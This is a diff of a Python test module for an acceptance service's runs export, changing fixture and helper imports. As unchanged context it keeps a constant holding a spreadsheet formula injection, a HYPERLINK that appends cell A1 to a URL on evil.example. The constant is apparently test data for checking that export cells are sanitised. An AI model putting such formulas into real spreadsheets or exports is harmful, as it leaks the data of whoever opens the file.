@@ -14,10 +14,7 @@ from acceptance.service.accounts import create_token, user_by_email
 from acceptance.service.decisions import record_decision
 from acceptance.service.models import Run, Submission
 from acceptance.service.runs_export import COLUMNS, safe_cell
-from tests.dashboard_support import COMMIT, OTHER, OWNER, REVIEWER, Service
-from tests.web.test_dashboard import client_for, seeded, service
-
-__all__ = ["seeded", "service"]  # the fixtures, shared with tests/web/test_dashboard.py
+from tests.dashboard_support import COMMIT, OTHER, OWNER, REVIEWER, Service, client_for
 
 HOSTILE_SUPPLIER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
